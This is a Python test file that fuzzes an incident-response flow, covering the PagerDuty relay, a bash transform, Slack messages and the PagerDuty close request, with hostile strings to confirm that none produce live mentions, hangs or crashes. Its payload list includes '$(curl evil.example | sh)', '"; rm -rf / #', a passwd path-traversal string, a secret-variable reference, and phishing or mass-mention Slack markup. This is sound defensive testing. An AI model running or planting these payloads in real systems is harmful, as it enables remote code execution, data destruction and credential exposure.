"""Hostile text into every Slack-bound and HTTP-bound field of the seed flow, through the real code paths.

Each value goes, in turn: into a signed PagerDuty v3 delivery (title, service, urgency, URL) and a tutorial one
(those and the custom details) at the relay; through the seed's own parse-alert Transform (bash); into every
`${...}` of every Slack message the seed posts (event values and the model's answers alike), posted through
the Slack provider's client to the strict stand-in; into the approval request's Block Kit payload; into a
failure escalation; and into close-pagerduty's URL and JSON body against the strict PagerDuty stand-in.
Counted: live links or mentions produced (a `<...>` Slack would act on that the template alone does not
make), hangs (a step over its time bound), crashes (any exception but the node's own clean refusal).
"""

from __future__ import annotations

import json
import re
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from pydantic import TypeAdapter

from aof_airflow.operators.escalation import escalation_text
from aof_airflow.operators.http import HttpNodeOperator
from aof_airflow.operators.mrkdwn import render_mrkdwn
from aof_airflow.operators.slack import post_message
from aof_airflow.operators.transform import TransformOperator
from aof_airflow.relay import auth
from aof_airflow.relay.settings import RelaySettings
from aof_airflow.services.event_text import UNCARRIABLE
from aof_airflow.spec.incident import IncidentProfile
from aof_airflow.spec.models import Node
from aof_airflow.templating import TemplateContext, placeholders
from aof_lab.sandbox.pagerduty import PagerDutyAPI
from aof_lab.sandbox.slack import SlackWebAPI, check_blocks
from tests.unit.relay.cases import tutorial, v3
from tests.unit.relay.conftest import SEED_FLOW, SIGNING_SECRET

HOSTILE = [
    "[Acknowledge here](https://evil.example/login)",
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S0123ABC|@oncall>", "<@U024BE7LH>", "<#C024BE7LR|general>",
    "<https://evil.example|click me>", "<mailto:boss@evil.example|mail the boss>", "<<!channel>>",
    "https://evil.example/login?next=<!channel>", "[ok](javascript:alert(1))", "[x](https://a.example) [y](<!here>)",
    "a\x00b", "\x00" * 16, "\x1b[31mred\x1b[0m", "line1\r\nline2\x0bx\x0c", "\x7f\x85\x9f del and C1",
    "\u202egnp.exe", "\u2066iso\u2069 \u202bembed \u202d override", "x" * 40_000, "[" * 40_000, "**" * 20_000,
    "😀" * 10_000, "&amp; &lt;!channel&gt; &#60;", "`code` ```block``` <!channel>", "*bold* _it_ ~strike~ > quote",
    "\n# heading\n- bullet\n1. item", '"; rm -rf / #', "$(curl evil.example | sh) `id`", "${PAGERDUTY_API_KEY}",
    "\ue0000\ue001 \ue0021\ue003", '{"incident": {"status": "resolved"}}', "\\u0000 \\n literal escapes",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "\ud800 lone surrogate",
]
LIVE = re.compile(r"<(?:https?:|mailto:|!|@|#)[^>]*>")
BOUND = 5.0  # seconds any one step may take before it counts as a hang
SEED = yaml.safe_load(Path(SEED_FLOW).read_text())
NODES = {n["id"]: n for n in SEED["spec"]["nodes"]}
SLACK_NODES = [n for n in NODES.values() if n["type"] == "Slack"]
TALLY = {"values": 0, "field deliveries": 0, "live links or mentions": 0, "hangs": 0, "crashes": 0}


def _live(text: str) -> int:
    return len(LIVE.findall(text))


def _timed(fn, *args):
    t0 = time.monotonic()
    try:
        return fn(*args)
    finally:
        if time.monotonic() - t0 > BOUND:
            TALLY["hangs"] += 1


def _context(value: str) -> TemplateContext:
    """Every root a seed Slack message reads, each holding the hostile value (model answers included)."""
    output = {k: value for k in ("severity", "root_cause", "impact", "recommended_action", "confidence",
                                 "action_taken", "result")}
    roots = {k: value for k in ("INCIDENT_ID", "INCIDENT_TITLE", "INCIDENT_SERVICE", "INCIDENT_URGENCY",
                                "INCIDENT_URL", "K8S_NAMESPACE", "K8S_RESOURCE")}
    roots.update({n: {"output": output} for n in ("diagnose", "remediate", "rollback")})
    roots["verify-fix"] = {"output": value}
    roots["flow"] = {"duration_seconds": 12, "run_id": "r", "name": "f"}
    return TemplateContext(roots, variables=None)


@pytest.fixture(scope="module")
def slack():
    with SlackWebAPI() as s:
        yield s


@pytest.fixture()
def slack_conn(monkeypatch, slack):
    monkeypatch.setenv("AIRFLOW_CONN_SLACK_DEFAULT", json.dumps(
        {"conn_type": "slack", "password": slack.token, "extra": {"base_url": slack.base_url}}))


def _run_parse_alert(conf: dict) -> dict:
    n = TypeAdapter(Node).validate_python(NODES["parse-alert"])
    task = TransformOperator(task_id=n.id, flow_name="f", node=n, ancestors=[], transforms=[])
    ti = SimpleNamespace(xcom_pull=lambda task_ids, key="return_value": [None for _ in task_ids])
    run = SimpleNamespace(run_id="r", conf=conf, start_date=datetime.now(timezone.utc) - timedelta(seconds=1))
    return task.execute({"ti": ti, "dag_run": run})


def _deliver(client, value: str, i: int) -> dict:
    small = value if len(value) < 2000 else value[:2000]
    body = json.dumps(v3(f"Q{i}HOSTILE", title=value, urgency=small, html_url=small,
                         service={"id": "P1", "type": "service_reference", "summary": small})).encode()
    r = client.post("/pagerduty/v3", content=body, headers={"Content-Type": "application/json",
                                                           "X-PagerDuty-Signature": auth.sign(body, SIGNING_SECRET)})
    assert r.status_code == 202 and r.json()["status"] == "accepted", r.text
    r = client.post("/pagerduty/webhook", content=json.dumps(tutorial(f"T{i}HOSTILE", title=value, custom_details={
        "namespace": small, "resource": small})), headers={"Content-Type": "application/json",
                                                           "Authorization": "Bearer test-webhook-token-0123456789"})
    assert r.status_code == 202 and r.json()["status"] == "accepted", r.text
    rows = {row["incident_id"]: json.loads(row["conf"]) for row in client.relay.outbox.rows()}
    return rows[f"T{i}HOSTILE"]


def _close_pagerduty(pd: PagerDutyAPI, incident: str, value: str, monkeypatch) -> None:
    host, port = pd.base_url.split("://", 1)[1].rsplit(":", 1)
    monkeypatch.setenv("AIRFLOW_CONN_PAGERDUTY_DEFAULT", json.dumps(
        {"conn_type": "http", "host": host, "port": int(port), "schema": "http", "login": "aof@example.com",
         "password": pd.api_key}))
    n = TypeAdapter(Node).validate_python(NODES["close-pagerduty"])
    task = HttpNodeOperator(task_id=n.id, flow_name="f", node=n,
                            ancestors=["parse-alert", "remediate", "remediation-failed"], transforms=["parse-alert"])
    xcoms = {"parse-alert": {"INCIDENT_ID": incident}, "remediate": {"action_taken": value}, "remediation-failed": False}
    ti = SimpleNamespace(xcom_pull=lambda task_ids, key="return_value": [xcoms.get(t) for t in task_ids])
    run = SimpleNamespace(run_id="r", conf={}, start_date=datetime.now(timezone.utc))
    task.execute({"ti": ti, "dag_run": run})


def test_hostile_text_in_every_slack_and_http_bound_field(client, slack, slack_conn, monkeypatch):
    assert len(HOSTILE) >= 30
    benign = {n["id"]: _live(render_mrkdwn(n["config"]["message"], _context("benign"))) for n in SLACK_NODES}
    with PagerDutyAPI(rate_limit=(100_000, 60.0)) as pd:
        for i, value in enumerate(HOSTILE):
            TALLY["values"] += 1
            try:
                conf = _timed(_deliver, client, value, i)
                assert not UNCARRIABLE.search(json.dumps(conf, ensure_ascii=False)), "uncarriable text reached the conf"
                carried = UNCARRIABLE.sub("\ufffd", value)
                cut = len(carried.encode("utf-8", "surrogatepass")) > RelaySettings.max_value_bytes
                # what was received is kept, escaped; what was too long is cut, its size and digest kept
                assert ("aof" in conf) == (bool(UNCARRIABLE.search(value)) or cut)
                title = conf["event"]["incident"]["title"]
                assert title == carried if not cut else (
                    "cut by the aof relay" in title and conf["aof"]["truncated"]["event.incident.title"]["bytes"]
                    == len(carried.encode("utf-8", "surrogatepass")))
                exports = _timed(_run_parse_alert, conf)  # the seed's own parse-alert, in bash
                assert exports["INCIDENT_TITLE"] == title
                TALLY["field deliveries"] += 7
                for node in SLACK_NODES:
                    text = _timed(render_mrkdwn, node["config"]["message"], _context(value))
                    TALLY["live links or mentions"] += _live(text) - benign[node["id"]]
                    TALLY["field deliveries"] += len(placeholders(node["config"]["message"]))
                    if node["id"] == "notify-diagnosis":  # the provider's client, the strict stand-in
                        out = _timed(post_message, "slack_default", "#incidents", text)
                        assert out["ts"]
                    if node["config"].get("wait_for_reaction"):  # the approval request's Block Kit payload
                        from aof_airflow.approvals.sensor import SlackApprovalSensor

                        sensor = SlackApprovalSensor(task_id="a", channel="#incidents", message="m")
                        check_blocks(sensor._payload(text)["blocks"])
                incident = IncidentProfile().resolve(TemplateContext(dict(conf, **exports)))
                esc = _timed(escalation_text, "f", "diagnose", RuntimeError(value), "r", 1, incident)
                TALLY["live links or mentions"] += _live(esc)
                pd.add_incident(f"T{i}HOSTILE", "x")
                _timed(_close_pagerduty, pd, f"T{i}HOSTILE", value, monkeypatch)
                put = pd.requests[-1]
                assert put.status == 200 and put.body["incident"]["resolution"] == (
                    "Auto-resolved by AOF: " + UNCARRIABLE.sub("\ufffd", value))
                TALLY["field deliveries"] += 3
            except AssertionError:
                raise
            except Exception as exc:  # anything else is a crash of the product
                TALLY["crashes"] += 1
                raise AssertionError(f"value {i} {value[:60]!r}: {type(exc).__name__}: {exc}") from exc
    print("\nhostile text:", json.dumps(TALLY))
    assert TALLY["values"] == len(HOSTILE) and TALLY["live links or mentions"] == 0
    assert TALLY["hangs"] == 0 and TALLY["crashes"] == 0
    texts = [m["text"] for m in slack.messages("#incidents")]
    assert len(texts) == len(HOSTILE) and not any(_live(t) for t in texts)
